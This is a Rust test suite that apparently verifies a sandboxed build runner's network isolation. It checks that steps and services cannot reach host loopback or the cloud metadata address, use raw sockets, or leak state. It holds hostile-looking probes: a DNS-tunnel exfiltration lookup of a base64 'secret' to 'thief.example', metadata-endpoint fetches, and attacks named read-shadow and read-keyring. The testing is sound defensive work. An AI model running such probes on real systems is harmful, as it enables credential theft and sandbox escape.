//! Steps that may use a network, and want more of it.

use std::collections::BTreeMap;
use std::path::Path;

use attacks::stage::{self, Ended, Stage};
use serde_json::{Value, json};

use crate::scene::{PACE, run, run_with, said, scene, seen};

/// Runs it with this network; nobody may have reached the server on the host's loopback.
fn networked(stage: &Stage, network: Value, cmd: &str) -> (Ended, usize) {
    stage.visitors();
    let ended = run(stage, json!([{ "id": "s", "cmd": cmd, "network": network, "cache": "never", "timeout": "60s" }]));
    (ended, stage.visitors())
}

fn judged(stage: &Stage, network: Value, cmd: &str, lines: &[&str], harmless: &str) -> String {
    let (ended, visitors) = networked(stage, network, cmd);
    let said = said(&ended, "s");
    if visitors > 0 || said.iter().any(|line| line.contains("ESCAPED")) {
        return format!("ESCAPED: {visitors} visitors, {said:?}");
    }
    if said != lines {
        return format!("{said:?}\n{}\n{}", ended.out, ended.err);
    }
    seen(stage, &ended, 0, "", harmless)
}

/// The server's address in all its clothes.
const LOOPBACKS: &str = "./attacks helper fetch 127.0.0.1:$ATTACK_PORT 0.0.0.0:$ATTACK_PORT 127.9.9.9:$ATTACK_PORT \
                         '[::1]':$ATTACK_PORT '[::ffff:127.0.0.1]':$ATTACK_PORT | sed 's/.*: //' | sort | uniq -c | sed 's/^ *//'";

#[test]
fn the_hosts_loopback_is_out_of_reach_of_a_list() {
    scene("list-loopback", |stage| {
        judged(stage, json!(["registry.example.com:443"]), LOOPBACKS, &["5 no answer"], "nobody answers")
    });
}

#[test]
fn a_list_that_names_the_hosts_loopback_does_not_open_it() {
    scene("list-names-loopback", |stage| {
        let port = stage.world().port;
        let network = json!([format!("localhost:{port}"), format!("127.0.0.1:{port}")]);
        let (ended, visitors) = networked(stage, network, LOOPBACKS);
        if visitors > 0 || ended.out.contains("ESCAPED") {
            return format!("ESCAPED: {visitors} visitors\n{}", ended.out);
        }
        seen(stage, &ended, ended.code.unwrap_or(-1), "", "nobody answers")
    });
}

#[test]
fn the_hosts_loopback_is_out_of_reach_of_everything() {
    scene("full-loopback", |stage| judged(stage, json!("full"), LOOPBACKS, &["5 no answer"], "nobody answers"));
}

#[test]
fn the_proxy_dials_no_loopback() {
    scene("proxy-loopback", |stage| {
        let cmd = "./attacks helper proxy 127.0.0.1:$ATTACK_PORT localhost:$ATTACK_PORT '[::1]':$ATTACK_PORT 169.254.169.254:80 | \
                   sed 's/.*proxy: //; s/ [A-Z].*//' | sort | uniq -c | sed 's/^ *//'";
        judged(stage, json!("full"), cmd, &["4 HTTP/1.1 403"], "the proxy refuses with 403")
    });
}

#[test]
fn metadata_is_out_of_reach_of_everything() {
    scene("full-metadata", |stage| {
        let cmd = "./attacks helper fetch 169.254.169.254:80 '[fd00:ec2::254]':80 | sed 's/.*: //' | uniq";
        judged(stage, json!("full"), cmd, &["no answer"], "nobody answers")
    });
}

#[test]
fn names_outside_the_list_are_asked_of_nobody() {
    scene("name-tunnel", |stage| {
        let cmd = "./attacks helper name c2VjcmV0.thief.example; ./attacks helper name c2VjcmV0.registry.example.com";
        let (ended, _) = networked(stage, json!(["registry.example.com:443"]), cmd);
        let lines = said(&ended, "s");
        match lines[..] {
            [one, other] if one.contains("refused with code") && other.contains("refused with code") => {
                seen(stage, &ended, 0, "", "the names are refused")
            }
            _ => format!("ESCAPED: {lines:?} {}", ended.err),
        }
    });
}

#[test]
fn what_a_step_was_refused_is_told() {
    scene("list-others", |stage| {
        let cmd = "./attacks helper fetch 192.0.2.1:7443";
        let steps = json!([{ "id": "s", "cmd": cmd, "network": ["registry.example.com:443"], "cache": "never" }]);
        let ended = run_with(stage, steps, &["--output", "json"], &[]);
        match ended.out.matches("192.0.2.1:7443\",\"why").count() {
            1 => seen(stage, &ended, 0, "192.0.2.1", "nobody answers, and the run tells"),
            _ => format!("ESCAPED: {}{}", ended.out, ended.err),
        }
    });
}

/// Attacks on the network that must fail in any.
const IN_ANY: [&str; 9] = [
    "abstract-socket",
    "path-socket",
    "raw-socket",
    "raw-socket-6",
    "packet-socket",
    "netlink-families",
    "change-interface",
    "virtual-machine-socket",
    "shared-memory-outside",
];

#[test]
fn a_step_with_a_network_has_no_other_rights() {
    scene("full-rights", |stage| {
        for network in [json!("full"), json!(["registry.example.com:443"])] {
            let cmd: String = IN_ANY.iter().map(|name| format!("./attacks {name}; ")).collect();
            let (ended, _) = networked(stage, network, &cmd);
            let wanted: Vec<String> = IN_ANY
                .iter()
                .map(|name| format!("{name}: {}", attacks::find(name).expect("it is in the table").sees[0]))
                .collect();
            if said(&ended, "s") != wanted {
                return format!("ESCAPED: {}{}", ended.out, ended.err);
            }
        }
        "harmless: refused as without".into()
    });
}

#[test]
fn the_network_of_a_former_step_is_as_new() {
    scene("former-network", |stage| {
        let look = "tail -qn +2 /proc/net/tcp /proc/net/udp /proc/net/unix | wc -l; cat /proc/net/route | wc -l";
        let steps = json!([
            { "id": "first", "cmd": "mkdir ~/shared; ./attacks helper linger", "cache": "never", "network": "full" },
            { "id": "plain", "cmd": "mkdir ~/shared; ./attacks helper linger", "cache": "never" },
            { "id": "look", "cmd": look, "depends_on": ["first", "plain"], "cache": "never" },
        ]);
        let ended = run(stage, steps);
        match said(&ended, "look")[..] {
            ["0", "1"] => seen(stage, &ended, 0, "", "nothing is left in it"),
            _ => format!("ESCAPED: {}{}", ended.out, ended.err),
        }
    });
}

/// Attacks that a service tries; it is behind the same walls as a step.
const BY_A_SERVICE: [&str; 10] = [
    "read-shadow",
    "write-root",
    "read-outside",
    "mount",
    "unshare-user",
    "kill-outside",
    "ptrace-outside",
    "read-keyring",
    "raw-socket",
    "make-memory-device",
];

#[test]
fn a_service_is_behind_the_same_walls() {
    scene("service-rights", |stage| {
        let cmd: String = BY_A_SERVICE.iter().map(|name| format!("./attacks {name}; ")).collect();
        let env: BTreeMap<_, _> = stage.world().to_env().into_iter().collect();
        let service = json!([{ "id": "db", "env": env, "cmd": format!("{cmd} sleep 60"), "ready": { "cmd": "true", "within": "30s" } }]);
        let ended = run(stage, json!([{ "id": "s", "cmd": "sleep 2", "services": service, "cache": "never" }]));
        let logs = stage::finish(stage.pace(Path::new(PACE), &["logs", "s", "--service", "db"]));
        let wanted = BY_A_SERVICE
            .iter()
            .map(|name| format!("{name}: {}", attacks::find(name).expect("it is in the table").sees[0]));
        let missing: Vec<String> = wanted.filter(|line| !logs.out.contains(line.as_str())).collect();
        if missing.is_empty() {
            return seen(stage, &ended, 0, "", "refused as to a step");
        }
        format!("ESCAPED: not {missing:?}\n{}{}{}", logs.out, logs.err, ended.err)
    });
}

#[test]
fn a_service_is_a_neighbour_and_no_way_out() {
    scene("service", |stage| {
        let mark = format!("8{}", stage.world().victim);
        let service = json!([{ "id": "db", "cmd": format!("trap '' TERM; ./attacks read-shadow; setsid sleep {mark} & sleep {mark}"), "ready": { "cmd": "true", "within": "30s" } }]);
        let ended = run(
            stage,
            json!([{ "id": "s", "cmd": "./attacks see-outside; ./attacks host-loopback", "services": service, "cache": "never" }]),
        );
        let left = crate::scene::processes(&format!("sleep {mark}"));
        match said(&ended, "s")[..] {
            ["see-outside: harmless: sees 3 processes", "host-loopback: refused ECONNREFUSED"] if left == 0 => {
                seen(stage, &ended, 0, "", "it is not seen and does not stay")
            }
            _ => format!("ESCAPED: {left} left\n{}{}", ended.out, ended.err),
        }
    });
}
